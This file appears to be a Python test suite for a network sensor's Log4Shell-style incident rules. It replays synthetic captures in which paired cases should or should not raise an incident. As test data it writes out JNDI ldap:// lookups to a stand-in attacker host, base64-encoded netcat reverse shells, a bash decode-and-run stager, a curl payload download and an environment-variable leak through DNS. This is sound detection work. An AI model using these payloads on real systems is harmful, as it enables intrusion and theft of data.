#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""stories.py SENSOR: what promotes an incident, and what does not, each in a capture of its own.

Each row of docs/STORIES.md's "What does not promote" is here with a twin: the same capture but for the one thing that
makes the difference. The row must leave every incident an attempt, the twin must not, so that a row cannot pass because
its capture shows nothing. All severities are held against the verdict they belong to.
"""
import base64
import pathlib
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, RESOLVER, SCANNER, Tale, VICTIM, java_archive, java_object

NAME = "ldap://%s:1389/a" % EVIL
HOME = ["10.0.0.%d" % n for n in range(11, 15)]
PARTNER, PROXY = "203.0.113.60", "10.0.0.33"  # in LDAP_ALLOWED; at home
TABLE = []


def row(name, quiet, twin):
    """quiet, twin: what the incidents come to, as (victim, verdict) in the order of their lookups. The writer gets a
    tale, and True when it is the twin's."""
    def register(writer):
        TABLE.append((name, writer, quiet, twin))
        return writer
    return register


ATTEMPT, CALLED = [(VICTIM, "attempted")], [(VICTIM, "vulnerable")]


@row("another host at the callback's server", ATTEMPT, CALLED)
def another_host(tale, twin):
    tale.lookup(NAME)
    tale.refused(VICTIM if twin else OTHER)


@row("another host there with the protocol's own request", ATTEMPT + [(OTHER, "vulnerable second")], CALLED)
def second_victim(tale, twin):
    tale.lookup(NAME)
    tale.search(client=VICTIM if twin else OTHER)


@row("words of another protocol", ATTEMPT, CALLED)
def other_words(tale, twin):
    tale.lookup(NAME)
    (tale.search if twin else tale.browse)()


@row("a connection that says nothing", ATTEMPT, CALLED)
def no_words(tale, twin):
    tale.lookup(NAME)
    (tale.silent if twin else tale.hello)(port=1389)


@row("a scan of ports", ATTEMPT, CALLED)
def scan(tale, twin):
    tale.lookup(NAME)
    for port in range(1385, 1399) if not twin else [1385, 1389, 1390]:
        tale.refused(port=port)


@row("a scan that nobody answers", ATTEMPT, CALLED)
def silent_scan(tale, twin):
    tale.lookup(NAME)
    for port in range(1380, 1400) if not twin else [1385, 1389, 1390]:
        tale.silent(port=port)


@row("a resolver asks on for somebody", [(RESOLVER, "attempted")], [(RESOLVER, "vulnerable")])
def resolver(tale, twin):
    tale.lookup("ldap://evil.example/a", victim=RESOLVER)
    if not twin:
        tale.asks("evil.example", OTHER, server=RESOLVER)
    tale.asks("evil.example", RESOLVER, EVIL, server="192.0.2.53")


@row("questions about a domain that resolve nothing", ATTEMPT, CALLED)
def mail_relay(tale, twin):
    tale.lookup("ldap://evil.example/a")
    for kind in (15, 16):
        tale.asks("evil.example", kind=kind)
    if twin:
        tale.asks("evil.example")


@row("a directory that the victim asks anyway", ATTEMPT, [(VICTIM, "vulnerable")])
def used_directory(tale, twin):
    for _ in range(0 if twin else 2):
        tale.search("dc=corp", server=PARTNER, port=389)
    tale.lookup("ldap://%s:389/a" % PARTNER)
    tale.search("dc=corp", server=PARTNER, port=389)


@row("a directory that all ask", ATTEMPT, [(VICTIM, "vulnerable")])
def common_directory(tale, twin):
    tale.lookup("ldap://%s:389/a" % PARTNER)
    for client in [VICTIM] if twin else HOME:
        tale.search("dc=corp", client, PARTNER, 389)


@row("a class by way of a proxy, from elsewhere", [(VICTIM, "vulnerable")], [(VICTIM, "delivered")])
def proxied(tale, twin):
    tale.lookup(NAME)
    tale.search(codebase="http://cb.example:8888/")
    tale.fetch(server=PROXY, port=3128, path="http://%s/Payload.class", host="cb.example:8888" if twin else "lib.example:8888")
    tale.hello(server=PROXY, port=8080)  # and no second stage


@row("a habit", ATTEMPT, CALLED)
def habit(tale, twin):
    if not twin:
        tale.refused()
        tale.wait(60)
    tale.lookup(NAME)
    tale.refused()


@row("a name that was asked for before, too", ATTEMPT, CALLED)
def habit_of_asking(tale, twin):
    if not twin:
        tale.asks("cdn.example.net")
        tale.wait(60)
    tale.lookup("ldap://cdn.example.net/a")
    tale.asks("cdn.example.net")


@row("a connection before the lookup only", ATTEMPT, CALLED)
def before(tale, twin):
    tale.refused()
    tale.wait(5)
    tale.lookup(NAME)
    if twin:
        tale.search()


@row("a place that many call", ATTEMPT, CALLED)
def popular_place(tale, twin):
    for client in HOME[:2] if twin else HOME[:3]:
        tale.silent(client, port=443)
    tale.lookup("ldap://%s:443/a" % EVIL)
    tale.silent(port=443)


@row("a name that many ask for", ATTEMPT, CALLED)
def popular_name(tale, twin):
    for client in HOME[:2] if twin else HOME[:3]:
        tale.asks("cdn.example.net", client, EVIL)
    tale.lookup("ldap://cdn.example.net/a")
    tale.asks("cdn.example.net", answer=EVIL)


@row("a class fetched by something that is no JVM", ATTEMPT, [(VICTIM, "delivered")])
def no_jvm(tale, twin):
    tale.lookup(NAME)
    tale.fetch(agent="Java/17.0.15" if twin else "curl/7.88.1")


@row("a gadget fetched by something that is no JVM, the lookup unseen", [], [(VICTIM, "delivered")])
def gadget_no_jvm(tale, twin):
    tale.fetch(agent="Java/17.0.15" if twin else "curl/7.88.1",
               body=java_object("org.apache.commons.collections.functors.InvokerTransformer"))


@row("an object that a JVM fetches, the lookup unseen", [], [(VICTIM, "delivered")])
def object_unasked(tale, twin):
    if twin:
        tale.lookup(NAME)
    tale.fetch(path="/remoting/service", body=java_object())


@row("the sender of the lookup at the callback's server", ATTEMPT, CALLED)
def scanners_own(tale, twin):
    tale.lookup(NAME, sender=OTHER)
    tale.refused(VICTIM if twin else OTHER)


@row("the sender at home, with the protocol's own words: no second victim", ATTEMPT + [(OTHER, "vulnerable")],
     ATTEMPT + [("10.0.0.14", "vulnerable second")])
def senders_words(tale, twin):
    tale.lookup(NAME, sender=OTHER)
    tale.search(client="10.0.0.14" if twin else OTHER)


@row("a scanner outside, at its own server", ATTEMPT, CALLED)
def scanner_outside(tale, twin):
    tale.lookup(NAME)
    tale.search(client=VICTIM if twin else SCANNER)


@row("an echo to the sender", ATTEMPT, ATTEMPT + [(OTHER, "attempted second")])
def echo(tale, twin):
    tale.lookup(NAME, sender=OTHER, echo=True)
    if twin:  # somebody else is sent the text, and that is no echo
        tale.lookup(NAME, sender=VICTIM, victim=OTHER)


@row("the sender calls after the echo", ATTEMPT, CALLED)
def echo_called(tale, twin):
    tale.lookup(NAME, sender=OTHER, echo=True)
    tale.refused(VICTIM if twin else OTHER)


@row("a name that no JDK would follow", [], CALLED)
def ineffective(tale, twin):
    tale.lookup(NAME if twin else NAME.upper())
    tale.refused()


@row("a second connection that was there before", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
def old_second(tale, twin):
    if not twin:
        tale.hello()
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch()
    tale.hello()


@row("a place that the class names, and many call", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
def popular_second(tale, twin):
    for client in HOME[:2] if twin else HOME[:3]:
        tale.browse(client, "203.0.113.77", 80)
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(words=["http://203.0.113.77/next"])
    tale.browse(VICTIM, "203.0.113.77", 80)


@row("a place that the class names, and the victim called before", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
def old_named(tale, twin):
    if not twin:
        tale.browse(VICTIM, "203.0.113.77", 80)
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(words=["http://203.0.113.77/next"])
    tale.browse(VICTIM, "203.0.113.77", 80)


@row("another port than the command names", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
def command(tale, twin):
    text = base64.b64encode(b"nc 203.0.113.77 4444 -e /bin/sh").decode()
    tale.lookup("ldap://%s:1389/Basic/Command/Base64/%s" % (EVIL, text))
    tale.search("Basic/Command/Base64/" + text, codebase="http://%s:8888/" % EVIL)
    tale.fetch()
    tale.hello(server="203.0.113.77", port=4444 if twin else 4445)


@row("a reference whose class nobody fetches", CALLED, [(VICTIM, "delivered")])
def offer(tale, twin):
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    if twin:
        tale.fetch()


@row("a class in the page of an error", CALLED, [(VICTIM, "delivered")])
def class_not_found(tale, twin):
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(status="200 OK" if twin else "404 Not Found")


@row("a class in a redirection that is followed", CALLED, [(VICTIM, "delivered")])
def class_moved(tale, twin):
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(status="302 Found\r\nLocation: http%s://203.0.113.77/Other.class" % ("s" if twin else ""))  # never from http to https


@row("a redirection of a class that nobody follows", CALLED, [(VICTIM, "delivered")])
def sent_on(tale, twin):
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.sent_on("http://203.0.113.77/Other.class")
    tale.fetch(server="203.0.113.77" if twin else "203.0.113.78", port=80, path="/Other.class")


OLD = "Java/1.8.0_181"


@row("a class that harms nobody, from home, its lookup unseen", [], [(VICTIM, "delivered")])
def class_from_home(tale, twin):
    tale.fetch(server=EVIL if twin else PROXY, agent=OLD)


@row("a class that harms nobody, for a JVM that follows no reference, its lookup unseen", [], [(VICTIM, "delivered")])
def class_for_new_java(tale, twin):
    tale.fetch(agent="Java/1.8.0_181" if twin else "Java/1.8.0_191")


@row("a class for something that is no JVM, its lookup unseen", [], [(VICTIM, "delivered")])
def class_for_curl(tale, twin):
    tale.fetch(agent=OLD if twin else "curl/7.88.1")


@row("a JAR for a build tool, the lookup unseen", [], [(VICTIM, "delivered")])
def jar_for_maven(tale, twin):
    for agent in ("Apache-Maven/3.8.7 (Java 1.8.0_181; Linux 6.1.0)", OLD):
        tale.fetch(path="/maven2/a/a-1.0.jar", agent=agent, body=java_archive("Payload"))
    tale.fetch(path="/catalog.xml", agent=OLD, body=b"<catalog/>")
    if twin:
        tale.fetch(agent=OLD)


@row("a class that many fetch, its lookup unseen", [(host, "delivered") for host in HOME[:3]], [(host, "delivered") for host in HOME[:2]])
def class_for_all(tale, twin):
    for host in HOME[:2] if twin else HOME:
        tale.fetch(client=host, agent=OLD)
        tale.wait(5)


@row("the name resolved by another host", ATTEMPT, CALLED)
def others_answer(tale, twin):
    tale.lookup("ldap://evil.example:1389/a")
    tale.asks("evil.example", RESOLVER, EVIL, server="192.0.2.53")
    if twin:  # the resolver's answer places the name all the same
        tale.refused()


@row("a name resolved long ago", ATTEMPT, CALLED)
def old_answer(tale, twin):
    tale.asks("evil.example", RESOLVER, EVIL, server="192.0.2.53", ttl=3 * 3600 if twin else 3600)
    tale.wait(2 * 3600)
    tale.lookup("ldap://evil.example:1389/a")
    tale.refused()


@row("the victim's own directory, asked for what it always is", ATTEMPT, CALLED)
def own_directory(tale, twin):
    for _ in range(2):
        tale.search("dc=corp", server="10.0.0.60", port=389)
    name = "dc=other" if twin else "dc=corp"
    tale.lookup("ldap://10.0.0.60:389/" + name)
    tale.search(name, server="10.0.0.60", port=389)


@row("an address as IPv6 writes that of IPv4", ATTEMPT, CALLED)
def mapped(tale, twin):
    tale.lookup("ldap://[::ffff:203.0.113.%d]:1389/a" % (9 if twin else 10))
    tale.refused()


def delivered(tale, words):
    tale.lookup(NAME)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(words=words)


DELIVERED, COMPROMISED = [(VICTIM, "delivered")], [(VICTIM, "compromised")]


@row("a number like an address in a class, and nobody calls there", DELIVERED, COMPROMISED)
def version_number(tale, twin):
    delivered(tale, ["1.2.3.4"])
    tale.hello(server="1.2.3.4" if twin else "1.2.3.5", port=9001)


@row("another port than the class has beside the host", DELIVERED, COMPROMISED)
def pair_in_class(tale, twin):
    delivered(tale, ["203.0.113.77:9001"])
    tale.hello(server="203.0.113.77", port=9001 if twin else 9002)


@row("another host than the one whose name the class has", DELIVERED, COMPROMISED)
def name_in_class(tale, twin):
    delivered(tale, ["java.net.Socket", "second.example"])
    tale.asks("second.example" if twin else "third.example", answer="203.0.113.77")
    tale.hello(server="203.0.113.77", port=9001)


@row("a pair of a name and a port, resolved only then", DELIVERED, COMPROMISED)
def named_pair(tale, twin):
    delivered(tale, ["second.example:9001"])
    tale.asks("second.example", answer="203.0.113.77" if twin else "203.0.113.78")
    tale.hello(server="203.0.113.77", port=9001)


@row("another place than the command in base64 calls", DELIVERED, COMPROMISED)
def packed_command(tale, twin):
    line = base64.b64encode(b"nc 203.0.113.77 9001 -e sh").decode()
    delivered(tale, ["bash -c {echo,%s}|{base64,-d}|{bash,-i}" % line])
    tale.hello(server="203.0.113.77", port=9001 if twin else 9002)


@row("another host than the one that is fetched without a scheme", DELIVERED, COMPROMISED)
def bare_fetch(tale, twin):
    delivered(tale, ["curl -s 203.0.113.77/x.sh -o /tmp/x"])
    tale.browse(VICTIM, "203.0.113.77" if twin else "203.0.113.78", 80)


PAYLOAD = "ldap://${env:USER}.evil.example:1389/a"


@row("a resolver asks for a name with a value, for one of two victims", [(VICTIM, "attempted"), (OTHER, "vulnerable or 10.0.0.1")],
     [(VICTIM, "vulnerable"), (OTHER, "attempted")])
def one_of_two(tale, twin):
    tale.lookup(PAYLOAD)
    tale.lookup(PAYLOAD, victim=OTHER)
    if twin:
        tale.asks("tomcat.evil.example")
    tale.asks("tomcat.evil.example", RESOLVER, EVIL, server="192.0.2.53")


@row("the same, and the other one calls", [(VICTIM, "vulnerable"), (OTHER, "vulnerable or 10.0.0.1")],
     [(VICTIM, "attempted"), (OTHER, "vulnerable")])
def one_calls(tale, twin):
    tale.lookup(PAYLOAD)
    tale.lookup(PAYLOAD, victim=OTHER)
    tale.asks("tomcat.evil.example", RESOLVER, EVIL, server="192.0.2.53")
    tale.refused(OTHER if twin else VICTIM)


@row("a value of another victim than the one that told its own", [(VICTIM, "vulnerable"), (OTHER, "vulnerable")],
     [(VICTIM, "attempted"), (OTHER, "vulnerable or 10.0.0.1")])
def one_left(tale, twin):
    tale.lookup(PAYLOAD)
    tale.lookup(PAYLOAD, victim=OTHER)
    if not twin:
        tale.asks("tomcat.evil.example")
    tale.asks("root.evil.example", RESOLVER, EVIL, server="192.0.2.53")


def victims_of(text):
    """{incident: victim}: whom its first alert was about."""
    victims = {}
    for alert in lab.alerts(text):
        if "incident" in lab.facts(alert):
            victims.setdefault(lab.facts(alert)["incident"]["id"], alert["alert"]["target"]["ip"])
    return victims


def judge(program, path, expected):
    text = lab.replay(program, path, extra=("-s", str(lab.TOP / "rules/incidents.rules"),
                                            "--set", "vars.address-groups.LDAP_ALLOWED=[%s]" % PARTNER))
    victims, lines = victims_of(text), []
    found = [(story.get("victim") or victims[number],
              " or ".join([story["verdict"] + (" second" if story.get("second_order") else "")] + [other["victim"] for other in story.get("candidates", [])]))
             for number, story in lab.incidents(text).items()]
    if sorted(found) != sorted(expected):
        lines.append("expected %s, found %s" % (expected, found))
    for alert in (event for event in lab.events(text) if event["event_type"] == "alert"):
        verdict, severity = lab.facts(alert).get("incident", {}).get("verdict"), alert["alert"]["severity"]
        at_worst = 2 if "ldap-allowed" in lab.facts(alert).get("label", []) else 1
        if lab.is_story(alert) and severity != at_worst or verdict == "attempted" and severity < 2:
            lines.append("%s is severity %d" % (verdict, severity))
    return lines


def main():
    program, bad = sys.argv[1], []
    with tempfile.TemporaryDirectory() as folder:
        for name, writer, quiet, twin in TABLE:
            for expected, is_twin in ((quiet, False), (twin, True)):
                tale, path = Tale(), pathlib.Path(folder) / "story.pcap"
                writer(tale, is_twin)
                tale.write(path)
                bad += ["%s%s: %s" % (name, ", the twin" if is_twin else "", line) for line in judge(program, path, expected)]
    if bad:
        sys.exit("\n".join(bad))
    print("%d rows and their twins" % len(TABLE))


if __name__ == "__main__":
    main()
